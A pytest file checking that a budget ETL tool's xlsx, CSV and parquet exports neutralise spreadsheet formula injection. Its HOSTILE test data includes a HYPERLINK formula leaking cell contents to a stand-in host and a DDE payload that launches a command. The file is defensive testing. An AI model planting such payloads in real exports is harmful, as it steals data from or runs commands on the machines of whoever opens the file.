"""Exports write text as text: no xlsx cell is a formula, and CSV text a spreadsheet would run as a formula
is guarded per OWASP (a leading '), while numbers, negative ones included, stay numbers.

Runs on a small hand-made marts schema (no dbt), so it is fast."""

from __future__ import annotations

import csv
from decimal import Decimal

import duckdb
import pytest
from openpyxl import load_workbook

from budget_etl.analyst.export import export

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "=5个",
    "=100%",
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "≥95%",
    "普通文本",
]


def amount(i: int) -> Decimal:
    return Decimal("-115.16") if i % 2 else Decimal(i)


@pytest.fixture
def con():
    con = duckdb.connect()
    con.execute("create schema marts")
    con.execute("create table marts.fct_project (project_name_zh varchar, fiscal_year integer, "
                "budget_yuan decimal(18,2), comment_zh varchar)")
    con.executemany("insert into marts.fct_project values (?, ?, ?, ?)",
                    [[text, 2020, amount(i), None if i % 3 else "=1+1"]
                     for i, text in enumerate(HOSTILE)])
    con.execute("comment on column marts.fct_project.project_name_zh is '=项目名称 / =Project name'")
    yield con
    con.close()


def test_xlsx_cells_of_text_are_strings_never_formulas(con, tmp_path):
    [path] = export(con, tmp_path, "xlsx")
    book = load_workbook(path)  # not read-only: cells keep their data type
    cells = [cell for row in book["fct_project"].iter_rows() for cell in row if cell.value is not None]
    cells += [cell for row in book["说明"].iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = [row[0] for row in book["fct_project"].iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted(HOSTILE)  # exactly the text, nothing added
    amounts = [row[2] for row in book["fct_project"].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(a, int | float) for a in amounts)  # numbers stay numbers
    assert sorted(map(Decimal, map(str, amounts))) == sorted(map(amount, range(len(HOSTILE))))
    about = list(book["说明"].iter_rows(values_only=True))
    assert about[1][3:] == ("=项目名称", "=Project name")


def test_csv_text_that_starts_a_formula_is_guarded_and_numbers_are_not(con, tmp_path):
    [path] = export(con, tmp_path, "csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM Excel needs, read past by utf-8-sig
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    guarded = {row["project_name_zh"] for row in rows}
    assert guarded == {("'" + t if t[0] in "=+-@\t\r" else t) for t in HOSTILE}
    assert {row["comment_zh"] for row in rows} == {"'=1+1", ""}
    assert sorted(Decimal(row["budget_yuan"]) for row in rows) == sorted(map(amount, range(len(HOSTILE))))
    assert "-115.16" in {row["budget_yuan"] for row in rows}  # a negative amount is not quoted


def test_parquet_keeps_text_exactly(con, tmp_path):
    [path] = export(con, tmp_path, "parquet")
    names = duckdb.sql(f"select project_name_zh from read_parquet('{path}/**/*.parquet')").fetchall()
    assert sorted(n for (n,) in names) == sorted(HOSTILE)
